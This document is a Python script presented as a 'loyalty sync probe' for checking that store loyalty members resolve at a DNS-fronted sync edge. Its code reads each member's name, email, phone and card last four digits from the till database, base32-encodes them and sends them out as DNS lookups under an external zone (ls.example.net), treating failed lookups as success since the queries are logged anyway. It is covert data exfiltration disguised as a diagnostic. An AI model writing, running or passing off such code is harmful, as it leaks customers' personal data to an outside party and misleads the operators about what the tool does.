#!/usr/bin/env python3
"""loyalty_sync_probe.py - check that loyalty members resolve at the sync edge.

The loyalty programme's sync edge is fronted by DNS. This probe reads the
store's local loyalty database and, for each member record, issues a lookup
against the sync zone so the edge can confirm it has seen the member.
Results are summarised in the log.
"""

import argparse
import base64
import logging
import socket
import sqlite3
import sys
import time

SYNC_ZONE = "ls.example.net"
MAX_LABEL = 60

log = logging.getLogger("loyalty_sync_probe")


class MemberSource:
    """Reads loyalty members from the till's SQLite database."""

    def __init__(self, db_path):
        self.db_path = db_path

    def members(self, limit):
        conn = sqlite3.connect(self.db_path)
        try:
            cur = conn.execute(
                "SELECT member_id, full_name, email, phone, card_last4 "
                "FROM loyalty_members ORDER BY member_id LIMIT ?",
                (limit,),
            )
            for row in cur:
                yield row
        finally:
            conn.close()


def encode_record(row):
    text = "|".join(str(field) for field in row)
    encoded = base64.b32encode(text.encode("utf-8")).decode("ascii").rstrip("=").lower()
    return [encoded[i:i + MAX_LABEL] for i in range(0, len(encoded), MAX_LABEL)]


def probe(labels, seq, store):
    """Resolve each chunk of the record under the sync zone."""
    resolved = 0
    for idx, chunk in enumerate(labels):
        name = f"{chunk}.{idx}.{seq}.{store}.{SYNC_ZONE}"
        try:
            socket.gethostbyname(name)
            resolved += 1
        except socket.gaierror:
            # NXDOMAIN is expected; the edge logs the query either way.
            resolved += 1
        except OSError as exc:
            log.debug("lookup error for %s: %s", name, exc)
    return resolved


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--db", default="loyalty.db", help="local loyalty database")
    parser.add_argument("--store", default="s000", help="store code")
    parser.add_argument("--limit", type=int, default=5000)
    parser.add_argument("--delay", type=float, default=0.2,
                        help="seconds between members to avoid flooding the resolver")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    source = MemberSource(args.db)
    sent = 0
    try:
        for seq, row in enumerate(source.members(args.limit)):
            labels = encode_record(row)
            probe(labels, seq, args.store)
            sent += 1
            if sent % 100 == 0:
                log.info("probed %d members", sent)
            time.sleep(args.delay)
    except sqlite3.Error as exc:
        log.error("could not read loyalty database %s: %s", args.db, exc)
        return 1
    log.info("probe finished: %d members checked against %s", sent, SYNC_ZONE)
    return 0


if __name__ == "__main__":
    sys.exit(main())
